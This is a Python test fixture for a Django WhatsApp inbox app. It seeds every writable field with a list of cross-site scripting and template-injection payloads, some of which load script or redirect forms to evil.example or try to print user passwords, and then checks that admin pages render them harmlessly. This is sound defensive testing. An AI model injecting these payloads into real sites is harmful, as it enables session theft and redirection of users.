"""A shop in which every text that anybody may write is an attack: names, messages, files, notes, rules, products, settings.

Rows are written past the use cases where these would refuse: what a page shows must be harmless whatever a row holds. Every
attack that makes an element marks it with ``data-hostile``, and every one that runs sets ``window.broken``.
"""

import io
import time
import uuid
from dataclasses import dataclass, field
from datetime import timedelta

from django.contrib import admin
from django.db import transaction
from django.utils import timezone
from django_scopes import scope

from accounts import audit, businesses, keys
from accounts.models import Business, Invitation, Product, Settings, User, WhatsAppNumber
from aibot.models import Rule, Trap
from conversations import outbound
from conversations.models import (
    CannedReply,
    ConsentEvent,
    Contact,
    Conversation,
    ConversationLabel,
    Label,
    Message,
    MessageChange,
    Note,
    ReplyDraft,
    Status,
    Template,
    ThreadEvent,
)
from documents import outgoing
from documents.models import Document
from leads.models import Lead
from whatsapp_automation import onboarding

from ..factories import Customer, message_body, new_wamid, receive, text_body, together, value_body

NUMBER, WABA = "109876543210077", "209999999999999"
CORPUS = (
    # Out of whatever it stands in: it is the first row of each kind, and the one whose form is opened.
    '"></title></textarea></script><script data-hostile>window.broken=1</script>',
    "<script data-hostile>window.broken=1</script>",
    '"><script data-hostile>window.broken=1</script>',
    "</script><script data-hostile>window.broken=1</script>",
    "</textarea><script data-hostile>window.broken=1</script>",
    "</title><svg data-hostile onload=window.broken=1>",
    "</style><style data-hostile>body{display:none}</style>",
    "<style data-hostile>@import'//evil.example/a.css'</style>",
    "<ScRiPt data-hostile src=//evil.example/a.js></sCrIpT>",
    "<img data-hostile src=x onerror=window.broken=1>",
    "<img data-hostile src=//evil.example/a.png",
    "<svg/onload=window.broken=1 data-hostile>",
    "<svg data-hostile><animate onbegin=window.broken=1 attributeName=x dur=1s>",
    "<svg data-hostile><a xlink:href=javascript:window.broken=1><text y=9>x",
    "<math><mtext><table><mglyph><style><img data-hostile src=x onerror=window.broken=1>",
    "<details data-hostile open ontoggle=window.broken=1>",
    "<iframe data-hostile srcdoc='<script>parent.broken=1</script>'>",
    "<object data-hostile data=javascript:window.broken=1>",
    "<base data-hostile href=//evil.example/>",
    "<meta data-hostile http-equiv=refresh content=0;url=//evil.example/>",
    "<form data-hostile action=//evil.example/><button>ok",
    "<a data-hostile href=javascript:window.broken=1>x</a>",
    "<div data-hostile x-data x-init='window.broken=1'></div>",
    "<div data-hostile hx-get=/inbox/ hx-trigger=load hx-on::load=window.broken=1>",
    '" data-hostile autofocus onfocus=window.broken=1 x="',
    "' data-hostile onmouseover=window.broken=1 x='",
    "` data-hostile onmouseover=window.broken=1 x=`",
    "javascript:window.broken=1",
    "data:text/html,<script data-hostile>window.broken=1</script>",
    "'-(window.broken=1)-'",
    '\\";window.broken=1;//',
    "${window.broken=1}",
    "{{constructor.constructor('window.broken=1')()}}",
    "{% debug %}{{ request.user.password }}",
    "&lt;script data-hostile&gt;window.broken=1&lt;/script&gt;",
    "\\u003cscript data-hostile\\u003ewindow.broken=1",
    "%3Cscript data-hostile%3Ewindow.broken=1",
    "＜script data-hostile＞window.broken=1",
    "\u202e<script data-hostile>window.broken=1</script>\u2028\u200b",
    "*<b data-hostile>* _<i data-hostile>_ ```<script data-hostile>``` ~x~",
    "<!--<b data-hostile>",
    "<![CDATA[<b data-hostile>",
    "red;background:url(//evil.example/b)}*{color:red",
)
TOGETHER = 8  # attacks in a conversation: a page of a thread holds no more messages. Each has a customer of its name all the same.


@dataclass
class Hostile:
    business: Business
    owner: User
    threads: dict[str, list[str]] = field(default_factory=dict)  # conversation -> the attacks that its messages are
    rows: list[str] = field(default_factory=list)  # addresses of the admin


def open_shop() -> Hostile:
    owner = User.objects.create_user("mal@hostile.example", name=CORPUS[24])
    business = onboarding.open_business(CORPUS[2], owner=owner)
    businesses.connect_number(business, NUMBER, access_token="token-of-the-hostile-one", waba_id=WABA, actor=owner)
    made = Hostile(business, owner)
    with scope(business=business):
        for place, attack in enumerate(CORPUS):
            writer = _customer(place - place % TOGETHER, attack)
            receive(_all_that_a_customer_sends(attack, writer))
            conversation = Conversation.objects.select_related("contact", "number", "business").get(
                contact__phone=writer.phone
            )
            made.threads.setdefault(str(conversation.pk), []).append(attack)
            _all_that_the_team_writes(attack, conversation, owner)
            _all_that_the_owner_writes(attack, place, business, owner)
        receive(together(*_a_word_of_each_customer()))
        _of_the_business(business, owner)
        made.rows = list(_addresses(business, made.threads))
    return made


def _a_word_of_each_customer():
    for place, attack in enumerate(CORPUS):
        if place % TOGETHER:
            yield text_body(new_wamid(), attack, _customer(place, attack), NUMBER)


def _customer(place: int, attack: str) -> Customer:
    return Customer(attack, f"9198100{place:05d}", f"IN.77{place:03d}", f"@{attack}")


def _all_that_a_customer_sends(attack: str, sender: Customer) -> bytes:
    wamids = [new_wamid() for _ in range(3)]
    given = [
        ("image", {"id": "1", "mime_type": attack, "caption": attack}),
        ("document", {"id": "2", "mime_type": "application/pdf", "filename": attack, "caption": attack}),
        ("button", {"text": attack, "payload": attack}),
        ("interactive", {"type": "list_reply", "list_reply": {"id": attack, "title": attack, "description": attack}}),
        ("interactive", {"type": "button_reply", "button_reply": {"id": attack, "title": attack}}),
        ("interactive", {"type": "nfm_reply", "nfm_reply": {"name": attack, "body": attack, "response_json": "{}"}}),
        ("contacts", [{"name": {"formatted_name": attack}, "phones": [{"phone": attack, "wa_id": attack}]}]),
        ("location", {"latitude": 12.9, "longitude": 77.5, "name": attack, "address": attack, "url": attack}),
        ("location", {"latitude": 12.9, "longitude": 77.5, "url": f"https://x.example/{attack}"}),
        ("order", {"catalog_id": attack, "text": attack, "product_items": [_item(attack)]}),
        ("unsupported", {"type": attack}),
        ("system", {"type": attack, "body": attack}),
        (attack[:30], {"body": attack}),
        ("reaction", {"message_id": wamids[0], "emoji": attack}),
        ("edit", {"original_message_id": wamids[1], "message": {"type": "text", "text": {"body": attack}}}),
    ]
    return together(
        text_body(wamids[0], attack, sender, NUMBER, referral=_referral(attack)),
        text_body(wamids[1], f"before {attack}", sender, NUMBER, context={"id": wamids[0]}),
        *(message_body(new_wamid(), kind, payload, sender, NUMBER) for kind, payload in given),
        value_body({"message_echoes": [_echo(attack, sender)]}, number=NUMBER, field="smb_message_echoes"),
        value_body({"event": attack, "reason": attack}, number=NUMBER, field="account_update"),
        value_body({attack: attack}, number=NUMBER, field="flows"),
        value_body({"messages": [{"type": attack}]}, number=NUMBER),
        text_body(wamids[2], attack, sender, NUMBER),
    )


def _item(attack: str) -> dict:
    return {"product_retailer_id": attack, "quantity": attack, "item_price": attack, "currency": attack}


def _referral(attack: str) -> dict:
    texts = dict.fromkeys(("source_url", "source_id", "headline", "body", "image_url", "ctwa_clid"), attack)
    return {"source_type": "ad", **texts}


def _echo(attack: str, sender: Customer) -> dict:
    now = str(int(time.time()))
    return {"id": new_wamid(), "from": "918047180011", "to": sender.phone, "timestamp": now, "type": "text",
            "text": {"body": attack}}  # fmt: skip


def _all_that_the_team_writes(attack: str, conversation: Conversation, owner: User) -> None:
    business, now = conversation.business, timezone.now()
    with transaction.atomic():
        sent = outbound.queue_text(conversation, attack, by=owner, now=now)
        told = outbound.queue_text(conversation, attack, by=owner, now=now)
    of = {"business": business, "conversation": conversation}
    buttons = {"buttons": [{"type": "reply", "reply": {"id": attack, "title": attack}}]}
    interactive = {"type": "button", "body": {"text": attack}, "action": buttons}
    Message.objects.filter(pk=sent).update(
        status=Status.FAILED, error_code=1, error_text=attack, source_name=attack[:80], kind="interactive",
        payload={"type": "interactive", "interactive": interactive}, reactions={"in": attack},
    )  # fmt: skip
    Message.objects.filter(pk=told).update(
        status=Status.UNKNOWN, settled_at=now, attempt=1, kind="template", source_name=attack[:80],
        payload={"type": "template", "template": _filled(attack)}, original_text=attack, edited_at=now,
    )  # fmt: skip
    document = outgoing.receive(business, io.BytesIO(b"prices"), "prices.txt", by=owner)
    Document.objects.filter(pk=document.pk).update(name=attack, message=sent, conversation=conversation)
    Document.objects.exclude(pk=document.pk).filter(conversation=conversation).update(name=attack, declared=attack)
    Contact.objects.filter(pk=conversation.contact_id).update(name=attack, email=attack, synced_name=attack)
    Lead.objects.filter(contact=conversation.contact_id).update(product_interest=attack)
    Conversation.objects.filter(pk=conversation.pk).update(last_message_text=attack, waiting_since=now)
    Note.objects.create(**of, text=attack, author_name=attack)
    ReplyDraft.objects.create(**of, person=owner, text=attack)
    ThreadEvent.objects.create(**of, kind="assigned", actor_name=attack, details={"to": attack}, at=now)
    ConsentEvent.objects.create(
        business=business, contact=conversation.contact, kind="start", source=attack[:30], how=attack, at=now
    )
    label = Label.objects.create(business=business, name=f"{len(attack)}{attack}"[:30], colour="good")
    ConversationLabel.objects.create(**of, label=label)
    audit.record(
        "conversation.assigned", business=business, actor=owner, target=attack, before=attack, after={attack: attack}
    )


def _filled(attack: str) -> dict:
    text = [{"type": "text", "text": attack, "parameter_name": attack}]
    kinds = ("header", "body", "button")
    return {
        "name": attack,
        "language": {"code": attack},
        "components": [{"type": k, "parameters": text} for k in kinds],
    }


def _all_that_the_owner_writes(attack: str, place: int, business: Business, owner: User) -> None:
    CannedReply.objects.create(
        business=business, shortcut=f"h{place}", title=attack[:80], text=attack, language="", created_by=owner
    )
    Product.objects.create(
        business=business, name=attack[:80], name_hi=attack[:80], name_roman=attack[:80], aliases=[attack],
        unit=f"{place}{attack}"[:30], price="1",
    )  # fmt: skip
    Trap.objects.create(business=business, text=attack)
    Template.objects.create(
        business=business, waba_id=WABA, name=attack, language="en", status=attack[:30] if place % 2 else "APPROVED",
        reason=attack, category="UTILITY", quality=attack[:20],
        components=[
            {"type": "HEADER", "format": "TEXT", "text": attack},
            {"type": "BODY", "text": f"{attack} {{{{1}}}}", "example": {"body_text": [[attack]]}},
            {"type": "FOOTER", "text": attack},
            {"type": "BUTTONS", "buttons": [{"type": "URL", "text": attack, "url": attack}]},
        ],
    )  # fmt: skip
    keys.create(business, attack[:80], ["products:read"], actor=owner)
    Invitation.objects.create(
        business=business, email=f"{attack}@x.example", role="agent", digest=uuid.uuid4().hex, invited_by=owner,
        expires_at=timezone.now() + timedelta(days=1),
    )  # fmt: skip


def _of_the_business(business: Business, owner: User) -> None:
    both = CORPUS[1] + CORPUS[24]
    for rule, attack in zip(Rule.objects.all(), CORPUS, strict=False):
        button = {"title": attack[:20], "intent": "pricing"}
        Rule.objects.filter(pk=rule.pk).update(reply=attack, away_reply=attack, phrases=[attack], buttons=[button])
    Settings.objects.update(
        delivery_area=both, texts={"greeting": {"en": both}, "away": {"en": CORPUS[4]}}, fallback_text=CORPUS[4],
        fallback_text_hi=both, holidays=[{"date": "2026-11-08", "name": both}],
    )  # fmt: skip
    WhatsAppNumber.objects.update(
        display_phone_number=CORPUS[11][:30], verified_name=both, stopped_reason=both, stopped_at=timezone.now(),
        warning=both, warned_at=timezone.now(), quality=CORPUS[11][:20], messaging_limit=CORPUS[11][:40],
    )  # fmt: skip
    MessageChange.objects.update(payload={CORPUS[0]: CORPUS[0]})


def _addresses(business: Business, threads):
    """Of each model of the admin its list and the first of its rows; of conversations those of every attack."""
    for model in admin.site._registry:
        app, name = model._meta.app_label, model._meta.model_name
        if not any(field.name == "business" for field in model._meta.fields):
            continue
        yield f"/admin/{app}/{name}/"
        rows = model._base_manager.filter(business=business).order_by("pk")
        keys = threads if model is Conversation else rows.values_list("pk", flat=True)[:1]
        yield from (f"/admin/{app}/{name}/{key}/change/" for key in keys)
